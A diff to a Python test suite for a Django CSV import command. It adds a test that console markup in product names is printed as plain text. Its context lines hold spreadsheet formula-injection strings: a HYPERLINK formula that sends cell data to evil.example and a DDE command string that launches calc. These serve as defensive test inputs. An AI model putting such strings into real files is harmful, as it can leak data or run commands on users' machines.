@@ -163,6 +163,19 @@ def test_the_command_line_door_reports_hostile_files_without_a_traceback(ocop_re
     assert _counts() == (0, 0, 0)
 
 
+def test_console_markup_in_a_file_is_printed_as_text(ocop_ready, tmp_path, capsys):
+    """rich reads "[/bold]" as markup: a product name must not end the command in a
+    traceback (MarkupError) nor style the operator's terminal."""
+    from django.core.management import CommandError, call_command
+
+    path = tmp_path / "markup.csv"
+    path.write_bytes(csv_bytes([annex_row(1, **{"Tên sản phẩm": "[/bold] Trà [red]đỏ",
+                                                "Hạng sao": "[/] 9"})]))
+    with pytest.raises(CommandError):
+        call_command("import", str(path), "--no-progress")
+    assert "“[/] 9”" in capsys.readouterr().out and _counts() == (0, 0, 0)
+
+
 def test_the_csv_report_cannot_carry_spreadsheet_formulas(run, tmp_path):
     rows = [annex_row(1, **{"Tên sản phẩm": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'}),
             annex_row(2, **{"Tên sản phẩm": "+cmd|' /C calc'!A0", "Chủ thể": "@SUM(1+1)"}),
